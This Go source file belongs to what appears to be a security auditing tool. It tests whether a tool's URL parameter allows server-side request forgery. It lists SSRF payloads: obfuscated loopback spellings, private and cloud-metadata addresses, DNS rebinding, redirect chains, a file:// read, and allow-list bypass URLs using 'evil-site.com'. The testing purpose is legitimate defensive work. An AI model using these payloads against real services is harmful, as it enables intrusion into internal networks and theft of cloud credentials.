// Copyright 2026 The toolvet authors
// SPDX-License-Identifier: Apache-2.0

package probe

import (
	"cmp"
	"context"
	"fmt"
	"net/http"
	"net/netip"
	"net/url"
	"slices"
	"strings"

	"github.com/toolvet/toolvet/internal/audit"
	"github.com/toolvet/toolvet/internal/infer"
	"github.com/toolvet/toolvet/internal/lazyregexp"
)

var urlWords = lazyregexp.New(`(?i)(^|[_-])(ur[il]s?|href|link|website|web_?page|webhook|endpoint|feed|src|site|domain|host(name)?)$|Ur[il]s?$`)

// urlName reports whether an unknown parameter may be a URL.
func urlName(p parameter) bool { return urlWords.MatchString(p.name) }

// publicPage is an acceptable value for the parameter.
func (p *parameter) publicPage() string {
	if bareHost.MatchString(p.name) {
		return publicHost
	}
	return "http://" + publicHost + "/"
}

var bareHost = lazyregexp.New(`(?i)host(name)?$`)

// hostName finds hosts in a description.
var hostName = lazyregexp.New(`(?i)\bhttps?://([a-z0-9-]+(?:\.[a-z0-9-]+)+)(/[^\s"'` + "`" + `<>)\]*]*)?`)

// A base is a URL that the tool accepts, up to the path.
type base struct {
	scheme, host, path string
	bare               bool   // the tool wants the host alone, without a scheme
	opened             string // the path of a page of it that opened in a browser; "": none did
}

func (b base) url(at string) string {
	if b.bare {
		return b.host + b.path + at
	}
	return b.scheme + "://" + b.host + b.path + at
}

// is reports whether a host is that of the URL: known names show up as their addresses.
func (b base) is(host string) bool {
	_, err := netip.ParseAddr(host)
	return err == nil || strings.EqualFold(strings.TrimSuffix(host, "."), b.host)
}

// url tries whether a parameter is a URL that the tool fetches. One that says so, and whose control call does not work, is
// inconclusive; of others nothing is told then.
func (a *auditor) url(ctx context.Context, t *tool, p parameter) {
	works, body, unknown := a.urlControl(ctx, t, p)
	if works == nil {
		told := unknown.Verdict == audit.Inconclusive && a.connections(ctx, t, p)
		if (p.kind == infer.URL || p.suspects(audit.URL)) && !told {
			unknown.Cell = cell(t, p, audit.URL)
			a.fact(unknown)
		}
		return
	}
	a.worked(cell(t, p, audit.URL))
	a.urls(ctx, t, p, *works)
	if body {
		a.output(ctx, t, p, a.seedPage(*works))
	}
}

// urls tries forbidden URLs with a tool that fetches.
func (a *auditor) urls(ctx context.Context, t *tool, p parameter, works base) {
	c := cell(t, p, audit.URL)
	probes := a.urlProbes(works)
	calls := make([]map[string]any, len(probes))
	for i, probe := range probes {
		calls[i] = t.sample(a.world, setting{p, probe.value})
	}
	read, page := make([]bool, len(probes)), make([]bool, len(probes))
	failed, unanswered := "", 0
	a.each(ctx, t, calls, func(i int, r reply) bool {
		if r.late || r.gone {
			unanswered++
		}
		read[i], page[i] = r.holds(a.world.outside), strings.Contains(r.text, a.canary.body)
		if r.failed != "" && (!r.late && !r.gone || a.silent(t)) {
			failed = r.failed
		}
		return failed != ""
	})
	found, graded, browser := map[string]bool{}, false, a.canary.runs(works.opened) // a page's script may run after the answer
	for _, remarks := range []bool{false, true} {                                   // remarks count if there is nothing else
		for i, probe := range probes { // checked at the end, because a request may come late
			seen := a.arrived(probe, page[i])
			if read[i] {
				seen = outsideRead
			}
			if seen == "" || found[probe.kind] || probe.remark != remarks || graded && remarks {
				continue
			}
			if h, ok := a.canary.hit(probe.at); ok && browser && h.opened && !read[i] && probe.only == "" && !remarks {
				probe.kind, probe.words = "browser-private", probe.words+", by a browser"
				if found[probe.kind] {
					continue
				}
			}
			found[probe.kind], graded = true, !remarks
			a.ssrf(c, probe, calls[i], seen, len(probes))
		}
	}
	if browser {
		a.fact(audit.Fact{Cell: c, Verdict: audit.Vulnerable, Confidence: audit.Metadata, Kind: "browser-by-design", Why: "the page that the caller names opens in a browser: that is what the tool is for",
			Proof: &audit.Proof{Arguments: string(written(t.sample(a.world, setting{p, works.url("")}))), Seen: "a request of a browser for a page, whose script ran", Probes: 1}})
	}
	fetches := a.stillFetches(probes)
	if !graded && failed == "" && unanswered < len(probes) && !fetches {
		graded = a.afresh(ctx, t, c, probes, calls)
	}
	switch {
	case graded:
	case failed != "":
		a.fact(audit.Fact{Cell: c, Verdict: audit.Inconclusive, Why: failed})
	case unanswered == len(probes):
		a.fact(audit.Fact{Cell: c, Verdict: audit.Inconclusive, Why: "a public address was fetched, and no probe was answered"})
	case !fetches:
		a.fact(audit.Fact{Cell: c, Verdict: audit.Inconclusive, Why: "a public address was fetched at first, and not again for each probe that needs it"})
	default:
		a.fact(audit.Fact{Cell: c, Verdict: audit.Guarded, Why: fmt.Sprintf("a public address was fetched, and none of %d probes got to another", len(probes))})
	}
}

// outsideRead is the effect of a probe that reads a file.
const outsideRead = "the content of a file outside the root"

// arrived describes a probe's request, if it has come to a forbidden place.
func (a *auditor) arrived(probe urlProbe, page bool) string {
	h, ok := a.canary.hit(probe.at)
	switch {
	case !ok || probe.at == "" || !probe.reached(h.host):
		return ""
	case page:
		return "a request came to " + where(h.host) + ", and its answer was given out"
	}
	return "a request came to " + where(h.host) + "; its answer was not given out"
}

func (a *auditor) ssrf(c audit.Cell, probe urlProbe, arguments map[string]any, seen string, tried int) {
	raw := written(arguments)
	confidence := audit.Proven
	if probe.remark {
		confidence = audit.Metadata
	}
	a.fact(audit.Fact{Cell: c, Verdict: audit.Vulnerable, Confidence: confidence, Kind: probe.kind,
		Why: "a request goes to " + probe.words, Proof: &audit.Proof{Arguments: string(raw), Seen: seen, Probes: tried}})
}

// where names the kind of host of a request.
func where(host string) string {
	ip, err := netip.ParseAddr(host)
	switch {
	case err != nil:
		return "a host that is not allowed"
	case ip.Unmap().IsLoopback(), ip.IsUnspecified():
		return "the machine itself"
	case ip.Unmap().IsLinkLocalUnicast():
		return "a link-local address"
	case ip.Unmap().IsPrivate():
		return "a private address"
	}
	return "an address"
}

// urlControl looks for a public URL that the tool fetches, and reports whether the tool passes the page
// on. If there is none, the fact says why.
func (a *auditor) urlControl(ctx context.Context, t *tool, p parameter) (works *base, body bool, unknown audit.Fact) {
	unknown = audit.Fact{Verdict: audit.Inconclusive, Why: "no control call worked: no request for a public page arrived"}
	for _, b := range a.bases(t, p) {
		at := a.canary.expect(page{})
		r := a.call(ctx, t, t.sample(a.world, setting{p, b.url(at)}))
		h, ok := a.canary.hit(at)
		if ok && b.is(h.host) {
			if h.opened {
				b.opened = at
			}
			return &b, strings.Contains(r.text, a.canary.body), unknown
		}
		a.refused(cell(t, p, audit.URL), r)
		host, relayed := a.canary.relayed(at)
		if relayed || ok {
			host = cmp.Or(host, h.host)
			return nil, false, audit.Fact{Verdict: audit.NoEvidence, Kind: audit.KindElsewhere, Why: "the server fetches nothing itself: the URL is sent on to " + show(host)}
		}
		if r.failed != "" {
			unknown.Why = "no control call worked: " + r.failed
			if !r.late && !r.gone || a.silent(t) {
				return nil, false, unknown
			}
		}
	}
	return nil, false, unknown
}

// bases are URLs that a tool may accept: of any host, or of hosts in its description.
func (a *auditor) bases(t *tool, p parameter) []base {
	list := []base{{scheme: "https", host: publicHost}, {scheme: "http", host: publicHost}}
	seen := map[string]bool{}
	if p.kind != infer.URL && !urlName(p) {
		return append(list, base{host: publicHost, bare: true})
	}
	for _, m := range hostName.FindAllStringSubmatch(p.description+" "+p.pattern+" "+t.Description, 20) {
		for _, path := range []string{"", strings.TrimRight(m[2], "/.,;:")} {
			if key := m[1] + path; !seen[key] && len(list) < 12 {
				seen[key] = true
				list = append(list, base{scheme: "https", host: strings.ToLower(m[1]), path: path})
			}
		}
	}
	return append(list, base{host: publicHost, bare: true})
}

// A urlProbe is a forbidden URL.
type urlProbe struct {
	kind, words string
	value       string
	at          string // the path where its request would arrive
	only        string // the end of the host that counts; "": any address that is not public
	remark      bool   // a success is a remark, and not graded
	asked       string // the path of a page with a redirect, which comes first; "": none does
}

// reached reports whether a request to a host was a forbidden one. Some programs take some
// spellings of addresses for names, which are public then.
func (p *urlProbe) reached(host string) bool {
	if p.only != "" {
		return strings.HasSuffix(host, p.only)
	}
	ip, err := netip.ParseAddr(host)
	ip = ip.Unmap()
	return err == nil && (!ip.IsGlobalUnicast() || ip.IsPrivate() || carrierGrade.Contains(ip))
}

var carrierGrade = netip.MustParsePrefix("100.64.0.0/10")

// sharedSpace is the kind for shared address space, which many guards take for public: it is only
// a remark.
const sharedSpace = "ssrf-shared-space"

// spellings of forbidden addresses.
var spellings = []struct{ kind, words, host string }{
	{"ssrf-loopback", "the machine itself", "127.0.0.1"},
	{"ssrf-loopback", "the machine itself, at another port", "127.0.0.1:18080"},
	{"ssrf-loopback", "the machine itself by name", "localhost"},
	{"ssrf-loopback", "the machine itself by IPv6", "[::1]"},
	{"ssrf-spelling", "the machine itself, as an IPv4-mapped address", "[::ffff:127.0.0.1]"},
	{"ssrf-spelling", "the machine itself, as an IPv4-mapped address in hexadecimal", "[::ffff:7f00:1]"},
	{"ssrf-spelling", "the machine itself, as an IPv4-mapped address in full", "[0:0:0:0:0:ffff:7f00:0001]"},
	{"ssrf-spelling", "the machine itself by IPv6, in full", "[0000:0000:0000:0000:0000:0000:0000:0001]"},
	{"ssrf-spelling", "the address ::", "[::]"},
	{"ssrf-spelling", "the machine itself, as one number", "2130706433"},
	{"ssrf-spelling", "the machine itself, in hexadecimal", "0x7f000001"},
	{"ssrf-spelling", "the machine itself, in octal", "0177.0.0.1"},
	{"ssrf-spelling", "the machine itself, in short", "127.1"},
	{"ssrf-spelling", "the machine itself, at its second address", "127.0.0.2"},
	{"ssrf-spelling", "the address 0.0.0.0", "0.0.0.0"},
	{"ssrf-spelling", "the machine itself, with a dot at its end", "127.0.0.1."},
	{"ssrf-spelling", "the machine itself, in digits of full width", "１２７.0.0.1"},
	{"ssrf-spelling", "the machine itself, behind a user name", publicHost + "@127.0.0.1"},
	{"ssrf-spelling", "the machine itself, behind a user name and a password", publicHost + ":80@127.0.0.1"},
	{"ssrf-private", "a private address", "10.0.0.5"},
	{"ssrf-private", "a private address of class C", "192.168.1.10"},
	{"ssrf-private", "a private address of class B", "172.16.0.9"},
	{"ssrf-private", "a private address of IPv6", "[fd12:3456:789a::1]"},
	{"ssrf-private", "a private address, as an IPv4-mapped address", "[::ffff:10.0.0.5]"},
	{sharedSpace, "an address that networks share (RFC 6598)", "100.64.0.7"},
	{"ssrf-metadata", "the metadata service of clouds", "169.254.169.254"},
	{"ssrf-metadata", "the metadata service of clouds, as an IPv4-mapped address", "[::ffff:169.254.169.254]"},
	{"ssrf-metadata", "the metadata service of clouds by IPv6", "[fd00:ec2::254]"},
	{"ssrf-dns", "the machine itself by a name of the DNS", loopbackHost},
	{"ssrf-dns", "the machine itself by a name below localhost", "audit.localhost"},
	{"ssrf-dns", "a private address by a name of the DNS", privateHost},
	{"ssrf-dns", "the machine itself by a name of the DNS with a dot at its end", loopbackHost + "."},
}

func (a *auditor) urlProbes(b base) []urlProbe {
	var list []urlProbe
	if b.host != publicHost {
		list = a.allowListProbes(b)
	}
	for _, s := range spellings {
		at := a.canary.expect(page{})
		target := base{scheme: "http", host: s.host, bare: b.bare}
		if b.scheme == "https" && b.host != publicHost {
			target.scheme = "https"
		}
		list = append(list, urlProbe{s.kind, s.words, target.url(at), at, "", s.kind == sharedSpace, ""})
	}
	list = append(append(list, a.rebindingProbes(b)...), a.redirectProbes(b)...)
	if !b.bare {
		list = append(list, urlProbe{"file-scheme", "a file", "file://" + a.world.inside("outside", outsideName+".txt"), "", "", false, ""})
	}
	return list
}

// rebindingProbes are names that resolve to a public address first, for the check, and to a private one
// afterwards, for the connection. With a list of allowed hosts they prove nothing.
func (a *auditor) rebindingProbes(b base) []urlProbe {
	if b.host != publicHost {
		return nil
	}
	var list []urlProbe
	for _, host := range []string{rebindOnce, rebindTwice} {
		at := a.canary.expect(page{})
		name := token() + "." + host // never asked for before
		list = append(list, urlProbe{"ssrf-rebinding", "a private address, by a name that led to a public one when it was looked up before (DNS rebinding)", base{scheme: "http", host: name, bare: b.bare}.url(at), at, "", false, ""})
	}
	return list
}

// redirectProbes are public pages with a redirect to a forbidden address.
func (a *auditor) redirectProbes(b base) []urlProbe {
	var list []urlProbe
	for _, to := range []string{"127.0.0.1", "169.254.169.254", loopbackHost, "[::ffff:127.0.0.1]"} {
		for _, r := range []struct {
			status int
			twice  bool
		}{{status: http.StatusFound}, {status: http.StatusTemporaryRedirect}, {status: http.StatusFound, twice: true}} {
			at := a.canary.expect(page{})
			from := a.canary.expect(page{redirect: "http://" + to + at, status: r.status})
			if r.twice {
				from = a.canary.expect(page{redirect: b.url(from), status: r.status})
			}
			// An attacker would first need a page on a host that the tool allows.
			list = append(list, urlProbe{"ssrf-redirect", "a place that must not be reached, by a redirect", b.url(from), at, "", b.host != publicHost, from})
		}
	}
	return list
}

// allowListProbes are URLs with the look of an allowed host's.
func (a *auditor) allowListProbes(b base) []urlProbe {
	var list []urlProbe
	add := func(words, only string, value func(at string) string) {
		at := a.canary.expect(page{})
		if u, err := url.Parse(value(at)); err == nil && u.Hostname() != b.host {
			a.canary.avoids(u.Hostname())
		}
		list = append(list, urlProbe{"allow-list-prefix", words, value(at), at, only, false, ""})
	}
	add("a host whose name begins as that of an allowed one", ".evil-site.com", func(at string) string { return "https://" + b.host + ".evil-site.com" + b.path + at })
	add("a host behind an allowed one as a user name", "evil-site.com", func(at string) string { return "https://" + b.host + "@evil-site.com" + b.path + at })
	add("a host behind an allowed one as a user name and a password", "evil-site.com", func(at string) string { return "https://" + b.host + ":443@evil-site.com" + b.path + at })
	add("a host before a backslash and an allowed one", "evil-site.com", func(at string) string { return `https://evil-site.com\@` + b.host + b.path + at })
	add("a host before a fragment with an allowed one", "evil-site.com", func(at string) string { return "https://evil-site.com" + b.path + at + "#@" + b.host })
	add("a host with an allowed one in its query", "evil-site.com", func(at string) string { return "https://evil-site.com" + b.path + at + "?https://" + b.host })
	add("a host with an allowed one in its path", "evil-site.com", func(at string) string { return "https://evil-site.com/" + b.host + b.path + at })
	add("a host whose name ends as that of an allowed one", "evil"+b.host, func(at string) string { return "https://evil" + b.host + b.path + at })
	return slices.Clip(list)
}
